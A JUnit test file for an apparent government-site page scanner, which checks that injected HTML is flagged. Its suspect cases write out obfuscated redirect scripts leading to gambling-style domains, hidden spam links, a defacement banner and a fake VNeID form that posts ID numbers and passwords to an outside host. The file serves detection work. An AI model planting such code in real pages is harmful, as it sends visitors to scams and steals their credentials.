package vn.gov.haiduong.haidang.page;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.Optional;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Ways in which injected code hides where it leads, beside honest code that looks like it. */
final class InjectedCodeTest {

  private static ContentVerdict read(String added) {
    String html =
        """
        <!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><title>Sở Nội vụ tỉnh Hải Dương</title></head>
        <body><ul><li><a href="/gioi-thieu">Giới thiệu</a></li><li><a href="/tin-tuc">Tin tức</a></li>
        <li><a href="/van-ban">Văn bản</a></li></ul><p>Hội nghị triển khai công tác cải cách hành chính.</p>
        """
            + added
            + "</body></html>";
    return PageReader.read(
            html.getBytes(StandardCharsets.UTF_8),
            Optional.empty(),
            PageContext.of(
                Optional.of("sonoivu.haiduong.gov.vn"), "", Instant.parse("2026-11-25T03:00:00Z")))
        .verdict();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>eval(function(p,a,c,k,e,d){return p}('0.1.2=\\'3://4.5.6/7\\'',10,8,'window|location|href|https|m|sunwin|fyi|vao'.split('|'),0,{}))</script>",
        "<script>(function(){var e=[107,119,119,115,112,57,44,44,97,102,119,117,109,45,112,122],s='';for(var i=0;i<e.length;i++)s+=String.fromCharCode(e[i]^3);top['loc'+'ation']=s})();</script>",
        "<script>var u='';'68747470733a2f2f6b7562657431322e696e6b'.replace(/../g,function(h){u+=String.fromCharCode(parseInt(h,16))});document.location=u;</script>",
        "<script>var h='hzzttzzps:/zz/vzzip-taixzziu.mzze'.replace(/zz/g,'');window.location.href=h;</script>",
        "<script>var m='https://';m+='app.';m+='bancah5';m+='.vip';location.href=m;</script>",
        "<script>document.write('<ifr'+'ame src=\"https://kqxs-live.cyou/f\" style=\"position:fixed;width:100%;height:100%\"></ifr'+'ame>');</script>",
        "<img src=x onerror=\"window.location.href='https://qh88-game.art'\">",
        "<svg onload=\"top.location.replace('https://hot51-live.app')\"></svg>",
        "<style>:root{--v:none}.w9{display:var(--v)}</style><div class=w9><a href='https://lam-dep-24h.online/'>a</a> <a href='https://noithat-xinh.store/'>b</a></div>",
        "<div style='position:absolute'><marquee>H4CK3D BY ~VN-C0BR4~</marquee></div>",
        "<h2>VNeID</h2><form><input name=cccd><input type=password name=mk><button formaction='https://vneid-gov.help/save'>Gửi</button></form>",
      })
  void injected_code_is_suspect(String added) {
    assertEquals(ContentVerdict.SUSPECT, read(added));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>eval(function(p,a,c,k,e,d){return p}('0.1(\\'2\\').3=4',5,5,'document|getElementById|clock|innerHTML|time'.split('|'),0,{}))</script>",
        "<script>var s='';s+='/tin-tuc/';s+='moi';location.href=s;</script>",
        "<script>var k=[12,45,67,89,12,34,56,78,90,11],x=0;for(var i in k)x^=k[i]^7;</script>",
        "<h1>Tập huấn an toàn thông tin</h1><p>Hacked by Red Team: diễn tập xử lý sự cố mã độc</p>",
        "<img src='/anh.jpg' onerror=\"this.src='/no-image.png'\">",
        "<div onmouseover=\"this.style.color='red'\">Thông báo</div>",
        "<style>:root{--mau:#fff}.w9{background:var(--mau);color:#333}</style><div class=w9><a href='https://www.chinhphu.vn'>Chính phủ</a></div>",
        "<form action='/gui'><input name=email><button formaction='/luu'>Lưu</button></form>",
      })
  void honest_code_is_clean(String added) {
    assertEquals(ContentVerdict.CLEAN, read(added));
  }
}
